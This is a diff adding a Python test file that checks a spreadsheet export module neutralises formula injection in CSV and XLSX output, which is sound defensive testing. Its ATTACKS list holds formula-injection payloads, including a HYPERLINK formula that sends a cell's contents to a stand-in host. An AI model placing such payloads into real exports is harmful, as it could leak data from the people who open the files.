@@ -1,0 +1,40 @@
+import csv
+import io
+
+from openpyxl import load_workbook
+
+from dte.core import spreadsheet
+
+ATTACKS = ['=HYPERLINK("http://x/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_formula_like_text_is_written_to_csv_as_text():
+    data = spreadsheet.csv_bytes(["a"], [[v] for v in ATTACKS]).decode("utf-8-sig")
+    cells = [r[0] for r in csv.reader(io.StringIO(data))][1:]
+    assert cells == ["'" + v for v in ATTACKS]
+
+
+def test_ordinary_text_and_numbers_are_written_to_csv_unchanged():
+    data = spreadsheet.csv_bytes(["a", "b"], [["张三", -5], ["a=b", 3300]]).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(data)))[1:] == [["张三", "-5"], ["a=b", "3300"]]
+
+
+def test_formula_like_text_is_stored_in_xlsx_as_quoted_text_not_a_formula():
+    wb = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(["a"], [[v] for v in ATTACKS])))
+    cells = [row[0] for row in wb.active.iter_rows(min_row=2)]
+    # XML stores a carriage return as a line feed; the text is otherwise kept exactly.
+    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in ATTACKS]
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_numbers_stay_numbers_in_xlsx():
+    wb = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(["n"], [[-5], [3300]])))
+    assert [r[0].value for r in wb.active.iter_rows(min_row=2)] == [-5, 3300]
+
+
+def test_dict_writer_neutralises_values():
+    buf = io.StringIO()
+    w = spreadsheet.SafeCsvDictWriter(buf, fieldnames=["name"])
+    w.writeheader()
+    w.writerow({"name": "=1+1"})
+    assert buf.getvalue().splitlines()[1] == "'=1+1"
